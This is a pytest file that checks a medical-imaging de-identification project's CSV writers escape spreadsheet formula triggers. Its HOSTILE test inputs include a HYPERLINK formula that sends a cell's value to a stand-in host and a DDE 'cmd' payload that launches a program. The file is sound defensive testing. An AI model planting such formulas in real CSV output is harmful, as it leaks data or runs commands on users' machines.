"""CSV formula injection (issue #24): no CSV the project writes from user values opens as a formula."""
from __future__ import annotations

import csv
import io
import json

import pytest

from cxrcommon.csv_cells import TRIGGERS, safe_cell, safe_dict, safe_row, unescape

HOSTILE = ["=1+2", "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tTAB", "\rCR", "'=already quoted", "'"]
PLAIN = ["DOE^JOHN", "4455667", "case 1.png", "", "a=b", "x-ray"]
NUMBERS = ["-1.5", "+3", "-2e-05", "0.25", "-0"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _harmless(cell: str) -> bool:
    """What a spreadsheet will not evaluate: no trigger first, or a plain number."""
    return not cell.startswith(TRIGGERS) or cell in NUMBERS


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_are_quoted_and_unescape_gives_them_back(value):
    cell = safe_cell(value)
    assert cell == "'" + value and _harmless(cell) and unescape(cell) == value


@pytest.mark.parametrize("value", PLAIN + NUMBERS)
def test_text_and_plain_numbers_are_written_as_they_are(value):
    assert safe_cell(value) == value and unescape(safe_cell(value)) == value


def test_rows_and_dicts():
    assert safe_row(["=a", 1, None, -1.5]) == ["'=a", "1", "", "-1.5"]
    assert safe_dict({"file": "@x", "n": 2}) == {"file": "'@x", "n": "2"}


def test_mapping_out_neutralises_identifiers_and_file_names_and_round_trips(tmp_path):
    from textremoval.deid.audit import write_mapping
    mapping = {("PatientID", v): f"ANON{i}" for i, v in enumerate(HOSTILE + PLAIN[:2])}
    mapping[("file", "=HYPERLINK(\"x\").dcm")] = "-abc.dcm"
    path = write_mapping(tmp_path / "map.csv", mapping)
    assert all(_harmless(c) for c in _cells(path.read_text(encoding="utf-8"))), path.read_text()
    write_mapping(path, {("PatientID", "new"): "ANON99"})          # merged with what the file holds
    with path.open(newline="") as fh:
        rows = {(unescape(r["kind"]), unescape(r["old"])): unescape(r["new"]) for r in csv.DictReader(fh)}
    assert rows == {**mapping, ("PatientID", "new"): "ANON99"}


def test_the_deid_audit_csv_neutralises_file_names_and_reasons(tmp_path):
    from textremoval.deid.audit import write_audit
    rec = {"input": "=HYPERLINK(\"http://x.example\").dcm", "output": "+out.dcm",
           "deidentify": {"status": "review", "tags": {"removed": ["@PatientName"]}, "codes": ["113100"],
                          "review": ["-read me"]}}
    (tmp_path / "a.regions.json").write_text(json.dumps(rec))
    _, csv_path = write_audit(tmp_path, ["=1+2.dcm: cannot read"], {})
    text = csv_path.read_text(encoding="utf-8")
    assert all(_harmless(c) for c in _cells(text)), text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [unescape(r["input"]) for r in rows] == [rec["input"], "=1+2.dcm"]


def test_the_turing_key_and_sheet_neutralise_cells_and_the_key_reads_back(tmp_path):
    from eval.turing import _csv
    text = _csv([{"image": "=1+2.png", "truth": "real", "source": "@evil"}], ["image", "truth", "source"])
    assert all(_harmless(c) for c in _cells(text)), text
    assert [unescape(c) for c in _cells(text)][3:] == ["=1+2.png", "real", "@evil"]
